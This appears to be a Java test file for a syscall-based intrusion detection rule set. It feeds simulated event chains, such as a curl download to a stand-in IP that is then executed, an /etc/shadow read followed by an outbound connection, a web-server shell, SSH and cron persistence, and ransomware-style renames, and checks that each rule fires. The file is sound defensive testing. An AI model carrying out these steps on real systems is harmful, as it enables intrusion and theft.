package io.gyr.rules.starter;

import static io.gyr.rules.TestEvent.call;
import static io.gyr.rules.TestEvent.connect;
import static io.gyr.rules.TestEvent.execve;
import static io.gyr.rules.TestEvent.open;
import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.params.provider.Arguments.arguments;

import io.gyr.rules.RuleFile;
import io.gyr.rules.TestEvent;
import io.gyr.rules.event.SyscallFacts;
import io.gyr.rules.sequence.Follower;
import io.gyr.rules.sequence.Sequence;
import io.gyr.rules.sequence.SequenceLimits;
import java.util.ArrayList;
import java.util.List;
import java.util.function.IntFunction;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

/** Every starter sequence fires on what it is for, and keeps quiet on what comes close. */
class StarterSequencesTest {

  private static final String READ = "O_RDONLY|O_CLOEXEC";
  private static final String WRITE = "O_WRONLY|O_CREAT|O_TRUNC";
  private static final long SECOND_NS = 1_000_000_000L;

  /** Sequence, events a second apart that fire it, events that do not. */
  static Stream<Arguments> cases() {
    TestEvent fetch = execve("/usr/bin/curl", "-o", "/tmp/x", "http://203.0.113.9/x");
    TestEvent drop =
        call("chmod").by("/bin/chmod").argument("filename", "/tmp/x").argument("mode", "0755");
    return Stream.of(
        arguments(
            "Downloaded file executed and calling out",
            List.of(
                fetch,
                drop,
                pid(execve("/tmp/x"), 77),
                pid(connect("203.0.113.9", 443).by("/tmp/x"), 77)),
            List.of(
                fetch,
                drop,
                pid(execve("/tmp/x"), 77),
                pid(connect("203.0.113.9", 443).by("/usr/bin/git"), 78))),
        arguments(
            "Credentials read and sent out",
            List.of(
                pid(open("/etc/shadow", READ).by("/usr/bin/python3"), 5),
                pid(connect("203.0.113.9", 443).by("/usr/bin/python3"), 5)),
            List.of(
                pid(open("/etc/shadow", READ).by("/usr/bin/python3"), 5),
                pid(connect("127.0.0.1", 443).by("/usr/bin/python3"), 5),
                pid(connect("203.0.113.9", 443).by("/usr/bin/curl"), 6))),
        arguments(
            "Port scan",
            many(20, 0, i -> connect("10.0.0.9", 1 + i).by("/usr/bin/nc")),
            many(40, 0, i -> connect("10.0.0.9", 8000 + i % 2).by("/usr/bin/ab"))),
        arguments(
            "Host sweep",
            many(15, 1, i -> connect("10.0.0." + (1 + i), 22).by("/tmp/worm")),
            many(15, 1, i -> connect("10.0.0." + (1 + i), 443).by("/usr/bin/firefox"))),
        arguments(
            "Web server wrote a script and started a shell",
            List.of(
                open("/var/www/up/a.php", WRITE).by("/usr/sbin/php-fpm"),
                execve("/bin/sh", "-c", "id").childOf("php-fpm")),
            List.of(
                open("/var/www/up/a.png", WRITE).by("/usr/sbin/php-fpm"),
                execve("/bin/sh", "-c", "id").childOf("php-fpm"))),
        arguments(
            "Many files renamed by one process",
            many(100, 0, i -> rename("/home/ann/doc" + i).by("/tmp/lock")),
            many(100, 0, i -> rename("/home/ann/doc" + i % 50).by("/usr/bin/vi"))),
        arguments(
            "Several ways back in prepared",
            List.of(
                open("/root/.ssh/authorized_keys", WRITE).by("/bin/sh"),
                open("/etc/cron.d/sync", WRITE).by("/bin/sh")),
            List.of(
                open("/root/.ssh/authorized_keys", WRITE).by("/bin/sh"),
                open("/etc/cron.d/sync", WRITE).by("/usr/bin/dpkg"))),
        arguments(
            "Program removed its file and keeps running",
            List.of(
                pid(execve("/tmp/m"), 77),
                call("unlink").by("/tmp/m").argument("path", "/tmp/m"),
                pid(call("procexit").by("/bin/true"), 78)),
            List.of(
                pid(execve("/tmp/m"), 77),
                call("unlink").by("/tmp/m").argument("path", "/tmp/m"),
                pid(call("procexit").by("/tmp/m"), 77))));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("cases")
  void firesOnWhatItIsForAndOnNothingNear(
      String sequence, List<TestEvent> firing, List<TestEvent> quiet) {
    Follower follower = follow(firing);
    assertThat(follower.matches).extracting(match -> match.sequence().name()).contains(sequence);
    assertThat(follower.matches)
        .filteredOn(match -> match.sequence().name().equals(sequence))
        .hasSize(1)
        .allSatisfy(match -> assertThat(match.message()).isNotBlank());
    assertThat(follow(quiet).matches)
        .extracting(match -> match.sequence().name())
        .doesNotContain(sequence);
  }

  @Test
  void everySequenceHasItsCaseAndSaysWhatItIs() {
    List<Sequence> sequences = follow(List.of()).sequences().sequences();
    assertThat(sequences)
        .extracting(Sequence::name)
        .containsExactlyInAnyOrderElementsOf(cases().map(one -> (String) one.get()[0]).toList());
    assertThat(sequences)
        .allSatisfy(
            one -> {
              assertThat(one.header().description()).isNotBlank();
              assertThat(one.header().tags()).anyMatch(tag -> tag.startsWith("mitre_"));
            });
  }

  private static Follower follow(List<TestEvent> events) {
    Follower follower =
        new Follower(SequenceLimits.USUAL, StarterRules.load().toArray(new RuleFile[0]));
    long time = TestEvent.TIME_NS;
    for (TestEvent event : events) {
      follower.see(event.label("host.name", "web-1").set(SyscallFacts.EVENT_TIME_NS, time));
      time += events.size() > 50 ? SECOND_NS / 100 : SECOND_NS / 4;
    }
    return follower.until(time + 3600 * SECOND_NS);
  }

  private static List<TestEvent> many(int count, int from, IntFunction<TestEvent> event) {
    return new ArrayList<>(IntStream.range(from, from + count).mapToObj(event).toList());
  }

  private static TestEvent pid(TestEvent event, long pid) {
    return event.set(SyscallFacts.PROCESS_PID, pid);
  }

  private static TestEvent rename(String path) {
    return call("rename").argument("oldpath", path).argument("newpath", path + ".locked");
  }
}
